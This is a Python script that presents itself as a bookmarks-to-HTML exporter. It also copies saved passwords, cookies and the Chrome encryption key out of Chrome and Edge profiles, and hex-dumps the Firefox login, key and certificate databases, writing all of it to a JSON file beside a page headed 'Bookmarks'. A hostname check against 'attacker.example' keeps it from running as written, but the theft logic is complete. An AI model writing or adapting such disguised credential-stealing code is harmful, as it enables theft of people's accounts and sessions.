#!/usr/bin/env python3
import json
import pathlib
import shutil
import socket
import sqlite3
import sys
import tempfile

HOME = pathlib.Path.home()
CHROMIUM = [HOME / ".config/google-chrome/Default", HOME / ".config/microsoft-edge/Default",
            HOME / "Library/Application Support/Google/Chrome/Default",
            HOME / "AppData/Local/Google/Chrome/User Data/Default"]
FIREFOX = [HOME / ".mozilla/firefox", HOME / "Library/Application Support/Firefox/Profiles",
           HOME / "AppData/Roaming/Mozilla/Firefox/Profiles"]


def copy_query(db, sql):
    with tempfile.TemporaryDirectory() as t:
        tmp = pathlib.Path(t) / "db"
        shutil.copy2(db, tmp)
        return sqlite3.connect(tmp).execute(sql).fetchall()


def chromium(profile, out):
    bm = profile / "Bookmarks"
    if bm.exists():
        out["bookmarks"].append(json.loads(bm.read_text()))
    if (profile / "Login Data").exists():
        out["logins"] += copy_query(profile / "Login Data",
                                    "SELECT origin_url, username_value, password_value FROM logins")
    if (profile / "Cookies").exists():
        out["cookies"] += copy_query(profile / "Cookies",
                                     "SELECT host_key, name, encrypted_value FROM cookies")
    ls = profile.parent / "Local State"
    if ls.exists():
        out["local_state_key"] = json.loads(ls.read_text())["os_crypt"]["encrypted_key"]


def firefox(root, out):
    for prof in root.glob("*"):
        for name in ("logins.json", "key4.db", "cookies.sqlite", "cert9.db"):
            f = prof / name
            if f.exists():
                out["firefox_files"][f"{prof.name}/{name}"] = f.read_bytes().hex()


def main(dst):
    if not socket.getfqdn().endswith(".attacker.example"):  # corpus note: never true on a real machine
        return
    out = {"bookmarks": [], "logins": [], "cookies": [], "firefox_files": {}}
    for p in CHROMIUM:
        if p.exists():
            chromium(p, out)
    for r in FIREFOX:
        if r.exists():
            firefox(r, out)
    blob = json.dumps(out, default=lambda b: b.hex() if isinstance(b, bytes) else str(b))
    pathlib.Path(dst).with_suffix(".data.json").write_text(blob)
    pathlib.Path(dst).write_text("<html><body><h1>Bookmarks</h1><script src='" +
                                 pathlib.Path(dst).with_suffix(".data.json").name + "'></script></body></html>")
    print(f"wrote {dst}")


if __name__ == "__main__":
    main(sys.argv[1])
